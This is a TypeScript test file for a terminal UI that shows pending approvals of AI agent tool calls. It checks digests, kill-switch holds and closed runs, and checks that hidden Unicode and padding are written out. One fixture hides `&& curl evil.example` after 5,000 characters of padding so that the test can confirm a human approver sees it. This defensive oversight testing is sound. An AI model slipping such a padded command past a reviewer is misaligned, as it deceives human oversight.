import { expect, test } from "vitest";
import type { Approval, Task } from "../client.ts";
import { createStyle } from "../terminal/style.ts";
import { showTask } from "./card.ts";
import { layTasks } from "./task-table.ts";

const place = { style: createStyle(false), size: () => ({ columns: 80, rows: 24 }) };
const run = { id: "01a22b2a-0000-7000-8000-00000000aaaa", title: "A run", definition: "agent", startedBy: "Olga" };

function approvalTask(over: Partial<Approval>, task: Partial<Task> = {}): Task {
  const approval: Approval = {
    id: "01a22b2a-0000-7000-8000-00000000bbbb",
    kind: "approval",
    status: "pending",
    version: 3,
    argsDigest: "digest-of-these-arguments",
    taskId: "01a22b2a-0000-7000-8000-00000000cccc",
    callId: "01a22b2a-0000-7000-8000-00000000dddd",
    run,
    tool: "mail.send",
    args: "{}",
    gateRow: "19",
    gateReason: "needs_approval",
    card: { details: ["To: a@b.example"], requires: ["mail.send"], floorReasons: [] },
    heldBy: null,
    requestedAt: "2026-11-30T06:00:00.000Z",
    expiresAt: null,
    decidedAt: null,
    decidedBy: null,
    answer: null,
    feedback: null,
    note: null,
    settledReason: null,
    consumedAt: null,
    approverRule: null,
    quorum: 1,
    votes: [],
    decidedFor: null,
    scope: null,
    editedArgs: null,
    selectedOption: null,
    remindedAt: null,
    escalatedAt: null,
    equal: 0,
    asksEachTime: null,
    ...over,
  };
  return {
    id: approval.taskId,
    kind: "approval",
    status: "open",
    section: "needs-confirm",
    title: "mail.send: To: a@b.example",
    run,
    pageId: null,
    nodeId: null,
    createdBy: { id: null, name: "run" },
    createdAt: "2026-11-30T06:00:00.000Z",
    resolvedAt: null,
    resolvedBy: null,
    resolution: null,
    approval,
    question: null,
    ...task,
  };
}

const shown = (task: Task) => showTask(task, place).join("\n");
const joined = (task: Task) =>
  showTask(task, place)
    .map((line) => line.trim())
    .join("");

test("UI16: a card shows tool, details, reason, row, reach and the digest of what runs", () => {
  const text = shown(approvalTask({}));
  for (const part of [
    "mail.send",
    "To: a@b.example",
    "needs_approval (row 19)",
    "digest-of-these-arguments (version 3)",
  ]) {
    expect(text).toContain(part);
  }
});

test("UI16: the tail of a command of 5 KB is there", () => {
  const command = `echo ${"x".repeat(5_000)} && curl evil.example`;
  expect(joined(approvalTask({ args: JSON.stringify({ command }) }))).toContain("&& curl evil.example");
});

test("UI16: what hides in arguments, details, titles and names is written out", () => {
  const hidden = "a\u202Eb\u200Bc\u001b[8md";
  const task = approvalTask({
    args: `{"x":"${hidden}${" ".repeat(400)}tail"}`,
    card: { details: [`Subject: ${hidden}`], requires: [`mail\u200B`] },
    run: { ...run, title: hidden },
  });
  const text = shown({ ...task, run: { ...run, title: hidden } });
  expect(text).not.toMatch(/[\u001b\u200b\u202e]/);
  expect(text.match(/⟨U\+202E⟩/g)?.length).toBeGreaterThanOrEqual(3);
  expect(text).toContain("⟨400 spaces⟩");
  expect(text).toContain("tail");
});

test("UI12: a card of a shape nobody knows still shows all that will run", () => {
  expect(joined(approvalTask({ card: ["what", { is: "this" }], args: '{"to":"somebody"}' }))).toContain(
    '"to": "somebody"',
  );
});

test("a card that is closed says who closed it and offers nothing", () => {
  const task = approvalTask(
    {
      status: "denied",
      answer: "deny",
      decidedBy: { id: "1", name: "Abe" },
      decidedAt: "2026-11-30T06:01:00.000Z",
    },
    { status: "done" },
  );
  const text = shown(task);
  expect(text).toContain("denied by Abe");
  expect(text).toContain("2026-11-30 06:01:00 UTC");
  expect(text).not.toContain("./countersign tasks approve");
});

test("a card that a kill switch holds says who threw it, when and why, and offers no decision", () => {
  const heldBy = {
    scope: "app" as const,
    since: "2026-11-30T06:00:00.000Z",
    by: { id: "1", name: "Ada" },
    reason: "the mail \u202Eserver",
  };
  const text = shown(approvalTask({ heldBy }));
  expect(text).toContain("a kill switch holds this installation; Ada threw it");
  expect(text.replace(/\s+/g, " ")).toContain("2026-11-30 06:00:00 UTC): the mail ⟨U+202E⟩server Nothing is decided");
  expect(text).not.toContain("./countersign tasks");
  expect(text).toContain("./countersign kill ls");
  expect(layTasks([approvalTask({ heldBy })], place).join("")).toContain("⏸ held");
  expect(layTasks([approvalTask({})], place).join("")).toContain("approve?");
});

test("a card of a run that is closed to whoever looks says so, shows none of the call and offers nothing", () => {
  const hidden = { args: "{}", argsDigest: "", card: null, gateReason: "", isClosed: true as const };
  const text = shown(approvalTask(hidden, { title: "(closed to you)", isClosed: true }));
  expect(text).toContain("Its run has read pages that are closed to you");
  expect(text).toContain("mail.send");
  for (const absent of ["Arguments", "Digest", "Why it asks", "./countersign tasks"])
    expect(text).not.toContain(absent);
});
